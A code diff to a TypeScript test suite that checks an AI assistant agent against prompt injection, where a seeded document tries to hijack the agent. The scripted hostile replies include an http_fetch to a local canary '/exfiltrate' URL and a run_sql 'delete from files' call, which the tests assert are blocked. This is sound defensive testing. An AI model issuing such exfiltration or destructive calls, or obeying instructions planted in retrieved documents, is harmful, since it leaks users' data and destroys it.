@@ -14,14 +14,13 @@ import { jsonRequest, signUp, type TestUser } from '../accounts.ts';
 import { seedPassages } from '../documents.ts';
 import { type OpenAiTestServer, type ScriptedReply, startOpenAiServer } from '../openai-server.ts';
 import { createTestDeps } from '../test-deps.ts';
+import { ALLOWED_TOOLS, toolCall as call, startCanary } from './injection.ts';
 
 /** In Bob's document only: seeing it anywhere means a chunk of Bob's came back. */
 const LEAK_MARKER = 'IBAN-DE00-DOC-LEAK-4417';
-const ALLOWED_TOOLS = ['search_chats', 'search_documents', 'calculator', 'current_time'];
 
 let server: OpenAiTestServer;
-let canary: ReturnType<typeof Bun.serve>;
-let canaryHits = 0;
+let canary: ReturnType<typeof startCanary>;
 let deps: AppDeps;
 let app: ReturnType<typeof createApp>;
 let alice: TestUser;
@@ -31,14 +30,7 @@ let bobFileId: string;
 
 beforeAll(async () => {
   server = await startOpenAiServer();
-  canary = Bun.serve({
-    hostname: '127.0.0.1',
-    port: 0,
-    fetch: () => {
-      canaryHits++;
-      return new Response('canary');
-    },
-  });
+  canary = startCanary();
   deps = await createTestDeps({
     vector: true,
     env: {
@@ -55,7 +47,7 @@ beforeAll(async () => {
     TestUser,
   ];
   const { embedder } = await loadAiRuntime(deps);
-  const canaryUrl = `http://127.0.0.1:${canary.port}/exfiltrate`;
+  const canaryUrl = canary.url('/exfiltrate');
   const aliceFiles = await seedPassages(
     deps.database.db,
     alice.id,
@@ -82,12 +74,9 @@ beforeAll(async () => {
 afterAll(async () => {
   await deps?.close();
   await server?.close();
-  canary?.stop(true);
+  canary?.stop();
 });
 
-const call = (name: string, args: Record<string, unknown>, id = `call_${name}`): ScriptedReply => ({
-  toolCalls: [{ name, arguments: args, id }],
-});
 const runAgent = (input: string) =>
   app.request('/api/ai/agents/assistant/runs', jsonRequest('POST', { input }, alice.headers));
 /** Everything the caller and the model saw. */
@@ -153,7 +142,7 @@ describe('a document that tries to hijack the agent', () => {
   });
 
   test('obeying it calls no tool outside the allowlist', async () => {
-    const canaryUrl = `http://127.0.0.1:${canary.port}/exfiltrate?data=x`;
+    const canaryUrl = canary.url('/exfiltrate?data=x');
     for (const reply of [
       call('http_fetch', { url: canaryUrl }),
       call('run_sql', { sql: 'delete from files' }),
@@ -167,7 +156,7 @@ describe('a document that tries to hijack the agent', () => {
       expect(response.status).toBeLessThan(500);
       expect(seen(await response.text())).not.toContain(LEAK_MARKER);
     }
-    expect(canaryHits).toBe(0);
+    expect(canary.hits).toBe(0);
   });
 
   test('the same search finds the caller’s own chunk (the probe can fail)', async () => {
